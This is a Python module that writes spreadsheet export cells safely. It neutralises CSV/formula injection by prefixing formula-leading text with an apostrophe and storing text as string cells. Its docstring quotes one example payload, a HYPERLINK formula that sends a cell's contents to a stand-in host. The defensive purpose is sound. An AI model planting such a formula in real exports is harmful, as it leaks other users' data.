"""Spreadsheet cells for every export: text is written as text, never as a live formula.

A name such as ``=HYPERLINK("http://evil.example/?leak="&B2,"Click")`` typed by one user must
not run in the spreadsheet of another (CSV/formula injection, OWASP). Every export builds its
rows through :func:`xlsx_row` (or :func:`xlsx_cell`), so the rule lives here once:

- a text value whose first character is ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
  gets a leading apostrophe (OWASP's recommendation), so it reads as text even if the sheet is
  saved as CSV and opened again;
- every text value is stored as a string cell (openpyxl would otherwise store anything that
  starts with ``=`` as a formula);
- numbers, dates and empty cells are written as they are (a negative number is a number);
- every number carries a number format showing the decimals it has: thousands grouped, none
  for an int ('#,##0'), a Decimal's own scale (an amount of a ``decimal_places=2`` field is
  '#,##0.00' even when whole, so a money column reads the same in every row), never a trailing
  dot (config/numbers.py: xlsx_format); a date shows as yyyy-mm-dd. A column may name its own format
  (an ID as '0', a percentage as '0.0').
"""

import datetime as dt
from decimal import Decimal

from openpyxl.cell import WriteOnlyCell

from config.numbers import xlsx_format

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(text: str) -> str:
    """The text, prefixed with an apostrophe when a spreadsheet could read it as a formula."""
    if text and text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def xlsx_cell(ws, value, *, font=None, number_format=None, alignment=None):
    """One cell for `ws` (write-only or not): text as a neutralised string cell, a Decimal as
    a number, a number / date / None as it is."""
    own_format = xlsx_format(value)  # before a Decimal becomes a float and loses its scale
    if isinstance(value, Decimal):
        value = float(value)
    if value is None or isinstance(value, bool | int | float | dt.date | dt.datetime):
        cell = WriteOnlyCell(ws, value=value)
    else:
        cell = WriteOnlyCell(ws, value=None)
        cell.value = neutralize(str(value))
        cell.data_type = "s"
    if font is not None:
        cell.font = font
    if alignment is not None:
        cell.alignment = alignment
    if number_format is None:
        if isinstance(value, dt.datetime):
            number_format = "yyyy-mm-dd hh:mm"
        elif isinstance(value, dt.date):
            number_format = "yyyy-mm-dd"
        else:
            number_format = own_format
    if number_format is not None:
        cell.number_format = number_format
    return cell


def xlsx_row(ws, values, *, formats=None, **style) -> list:
    """A row of cells for ``ws.append(...)``; see :func:`xlsx_cell`. `formats`: a number
    format per column (None: the value's own, see above)."""
    formats = formats or {}
    return [
        xlsx_cell(ws, v, **({"number_format": formats[i]} if formats.get(i) else {}), **style)
        for i, v in enumerate(values)
    ]
